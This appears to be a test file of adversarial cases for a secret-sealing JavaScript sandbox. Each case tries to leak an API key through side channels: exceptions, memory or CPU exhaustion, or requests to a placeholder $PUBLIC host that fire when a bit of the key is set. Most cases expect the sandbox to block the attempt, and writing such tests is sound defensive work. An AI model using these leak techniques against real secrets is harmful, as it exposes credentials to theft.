// Functions that run where the plaintext is.

//# throws-on-a-bit
// title: an exception when a bit is set
// rows: 18
// via: cli mcp
const key = env.read("API_KEY");
const out = key.map((k) => { if (k.charCodeAt(0) & 1) throw new Error(k); return 1; });
print(out);

//# pollutes
// title: leaves something on prototypes and the global
// rows: 19
const key = env.read("API_KEY");
print(key.map((k) => { Object.prototype.polluted = k; globalThis.left = k; Array.prototype.map = () => [k]; return 1; }));
print(({}).polluted ?? "clean", typeof globalThis.left, [1].map((x) => x).length);
print(key.map((k) => typeof globalThis.left));

//# compartment-logs
// title: prints from inside
// rows: 20
const key = env.read("API_KEY");
print(seal.compute([key], (k) => { console.log(k); print(k); return 1; }));
print(key.map((k) => { fs.write("out/inside.txt", k); return 1; }));

//# spoofed-to-string
// title: a function whose toString says something else
// rows: 21
const key = env.read("API_KEY");
const fn = (k) => k.length;
fn.toString = () => "(k) => { throw k; }";
print(key.map(fn));

//# source-injection-method
// title: method shorthand, getter, class, async, generator as the function
// rows: 22
const key = env.read("API_KEY");
const object = { steal(k) { return k; }, get other() { return (k) => k; }, async later(k) { return k; }, *many(k) { yield k; } };
for (const fn of [object.steal, object.other, object.later, object.many, class { constructor(k) { this.k = k; } }]) {
  try { print(key.map(fn)); } catch (error) { print(error.code); }
}

//# source-injection-comment
// title: comments and brackets that would close the wrapper
// rows: 22
const key = env.read("API_KEY");
const fns = [(k) => /* ) }) ; throw 1 // */ k, (k /* = */ = "}") => k, function (k) { return "`${}`})(" + k; } // )
];
for (const fn of fns) {
  try { print(key.map(fn)); } catch (error) { print(error.code); }
}

//# memory-on-a-bit
// title: exhausts memory when a bit is set
// rows: 23
const key = env.read("API_KEY");
const out = key.map((k) => { const all = []; if (k.charCodeAt(1) & 1) for (;;) all.push(new Uint8Array(1 << 20)); return 1; });
print(out);
fs.write("out/after.txt", "after");

//# spins-on-a-bit
// title: burns all its fuel when a bit is set
// rows: 24 42
const key = env.read("API_KEY");
print(key.map((k) => { while (k.charCodeAt(1) & 1) {} return 1; }));
fs.write("out/after.txt", "after");

//# many-compartments
// title: forty of them, together as much fuel as a bit says
// rows: 24
const key = env.read("API_KEY");
for (let index = 0; index < 40; index += 1) key.map((k, i) => { let n = 0; while (n < (k.charCodeAt(i) & 1) * 1e5) n += 1; return n; }, index);
print("done");

//# burns-without-fuel
// title: built-ins that do not poll, when a bit is set
// rows: 43
const key = env.read("API_KEY");
print(key.map((k) => (k.charCodeAt(2) & 1 ? "x".repeat(3e7).split("").length : 0)));
net.httpGet("$PUBLIC/after");

//# odd-results
// title: returns a function, a symbol, a cycle, something huge
// rows: 25
const key = env.read("API_KEY");
for (const fn of [(k) => (k[0] < "f" ? () => 1 : 1), (k) => (k[0] < "f" ? Symbol("s") : 1), (k) => { const o = { k }; if (k[0] < "f") o.o = o; return o; }, (k) => k.repeat(1e6), () => undefined, (k) => new Proxy({}, { get() { throw k; } }), () => 1n]) {
  print(key.map(fn));
}

//# huge-on-a-bit
// title: an output above the bound when a bit is set, used afterwards
// reaches: local POST /value
// rows: 25
// policy: tiny-compute
const key = env.read("API_KEY");
const out = key.map((k) => (k.charCodeAt(0) & 1 ? "x" : "x".repeat(5000)));
net.httpPost("$LOCAL/value", { out });
print(out, out.length);

//# equal-secrets-inside
// title: the equality of two secrets, computed inside
// rows: 26
const equal = seal.compute([env.read("API_KEY"), fs.read("priv/secret.txt")], (a, b) => a === b);
print(equal);
try { if (equal) print("yes"); } catch (error) { print(error.code); }

//# capture-by-name
// title: a free variable
// expect: E_CAPTURE
const key = env.read("API_KEY");
const prefix = "p";
print(key.map((k) => prefix + k));

//# capture-by-default
// title: captures in defaults, templates, nested functions, typeof, labels
const key = env.read("API_KEY");
const found = [];
for (const fn of [(k, x = found) => k, (k) => `${found}`, (k) => (() => found)(), (k) => typeof found, (k) => { found: for (;;) break found; return k; }, (k) => ({ found: k }).found, (k) => { var found = k; return found; }]) {
  try { print(key.map(fn)); } catch (error) { print(error.code); }
}
print(found.length);

//# writes-to-outside
// title: assigns to an outer variable
// expect: E_CAPTURE
const key = env.read("API_KEY");
let out = "nothing";
try { key.map((k) => { out = k; }); } catch (error) { print(error.code); }
print(out);

//# argument-by-reference
// title: an array and an object as public arguments, changed inside
const key = env.read("API_KEY");
const box = { list: [] };
try { print(key.map((k, b) => { b.list.push(k); return 1; }, box)); } catch (error) { print(error.code); }
print(JSON.stringify(box));

//# argument-with-traps
// title: public arguments that are proxies and getters
const key = env.read("API_KEY");
let reads = 0;
const trap = new Proxy({}, { ownKeys() { reads += 1; return ["a"]; }, getOwnPropertyDescriptor: () => ({ value: 1, enumerable: true, configurable: true }), get: () => 1 });
try { print(key.map((k, t) => t, trap)); } catch (error) { print(error.code); }
print(reads);

//# argument-with-token
// title: another handle as a public argument
// expect: E_ARGUMENT
const key = env.read("API_KEY");
print(key.map((k, other) => k === other, fs.read("priv/secret.txt")));

//# token-in-source
// title: a token in the function's text
const key = env.read("API_KEY");
const fn = (k) => "sealed0123456789abcdef0123456789abcdef" === k;
try { print(key.map(fn)); } catch (error) { print(error.code); }

//# bound-and-native
// title: bound, native and proxied functions
// expect: E_FN
const key = env.read("API_KEY");
for (const fn of [((k) => k).bind(null), String, JSON.stringify, print, new Proxy((k) => k, {}), Map]) {
  try { print(key.map(fn)); } catch (error) { print(error.code); }
}

//# async-function
// title: an async function that never ends when a bit is set
const key = env.read("API_KEY");
print(key.map(async (k) => { if (k.charCodeAt(0) & 1) await new Promise(() => {}); return 1; }));
fs.write("out/after.txt", "after");

//# clock-inside
// title: measures time and draws lots inside
const key = env.read("API_KEY");
print(key.map((k) => Date.now()), key.map(() => Math.random()), key.map(() => new Date().toISOString()), key.map(() => performance.now()));

//# example-oracle
// title: an example that throws when it is like the secret
const key = env.read("API_KEY");
for (const example of ["hunter2", "1234"]) {
  try { print(key.map((k) => { if (k === "hunter2") throw new Error("match"); return 1; }, { example })); } catch (error) { print(error.message); }
}

//# example-with-token
// title: the secret itself as the example
const key = env.read("API_KEY");
try { print(key.map((k) => { throw new Error(k); }, { example: key })); } catch (error) { print(error.code, error.message); }
try { print(key.map((k) => { throw new Error(k); }, { example: `${key}` })); } catch (error) { print(error.code, error.message); }

//# result-in-public-sinks
// title: what it returned, in every public sink
// expect: E_SINK
const out = env.read("API_KEY").map((k) => [...k].reverse().join(""));
for (const sink of [() => fs.write("out/x", out), () => net.httpPost("$PUBLIC/x", out), () => net.httpGet(`$PUBLIC/?x=${out}`), () => subprocess.exec(["bin/show", `${out}`])]) {
  try { sink(); print("sent"); } catch (error) { print(error.code); }
}

//# chain-of-maps
// title: a thousand maps, each on the one before
let value = env.read("API_KEY");
for (let index = 0; index < 200; index += 1) value = value.map((k) => `${k}${k.length % 3 ? "x" : ""}`);
print(value);

//# use-only
// title: computes on a credential that is for use only
// expect: E_USE_ONLY
const key = env.read("BROKER_KEY");
print(key.map((k) => k[0]));

//# block-sends-publicly
// title: a private block makes a public request when a bit is set
// rows: 27
const key = env.read("API_KEY");
const out = seal.run([key], (k, io) => { if (k.charCodeAt(0) & 1) io.net.httpGet("$PUBLIC/bit"); return 1; });
print(out);
net.httpGet("$PUBLIC/after");

//# block-writes-publicly
// title: a private block writes, reads and runs public things
// rows: 27
const key = env.read("API_KEY");
print(seal.run([key], (k, io) => io.fs.write("out/block.txt", k)));
print(seal.run([key], (k, io) => io.subprocess.exec(["bin/show", k])));
print(seal.run([key], (k, io) => io.fs.read(k[0] < "f" ? "pub/readme.txt" : "pub/words.json")));
print(fs.exists("out/block.txt"));

//# block-repeats
// title: a private block repeats a cleared request as often as a digit says
// reaches: local POST /value, $SECRET
// rows: 28
const key = env.read("API_KEY");
print(seal.run([key], (k, io) => { for (let n = 0; n < k.charCodeAt(0) % 7; n += 1) io.net.httpPost("$LOCAL/value", k); return k; }));
net.httpGet("$PUBLIC/after");

//# block-uses-credential
// title: a private block at a brokered slot
const key = env.read("API_KEY");
const broker = env.read("BROKER_KEY");
try { print(seal.run([key, broker], (k, b, io) => io.net.httpGet("$BROKER/v1/charges", { headers: { Authorization: `Bearer ${b}` } }).status)); } catch (error) { print(error.code); }

//# block-throws-and-waits
// title: a private block fails, waits or loops by the secret
// rows: 18 39
const key = env.read("API_KEY");
print(seal.run([key], (k, io) => { if (k[0] < "f") throw new Error(k); for (;;); }));
net.httpGet("$PUBLIC/after");

//# block-changes-files
// title: a private block makes and removes private files, whose parents are then looked at
// rows: 52
const key = env.read("API_KEY");
seal.run([key], (k, io) => { for (let n = 0; n < k.length % 9; n += 1) io.fs.write(`priv/made-${n}.txt`, k); });
seal.settle();
try { print(fs.list("priv")); } catch (error) { print(error.code); }
print(fs.list(".").map(({ name }) => name), fs.exists("priv/made-3.txt"), fs.glob("**/*.txt"));

//# block-result-then-block
// title: feeds one block's result to the next and then outside
// expect: E_SINK
const one = seal.run([env.read("API_KEY")], (k) => ({ k, n: k.length }));
const two = seal.run([one], (o, io) => io.fs.write("priv/n.txt", String(o.n)));
print(one, one.n, two);
fs.write("out/n.txt", `${one.n}`);
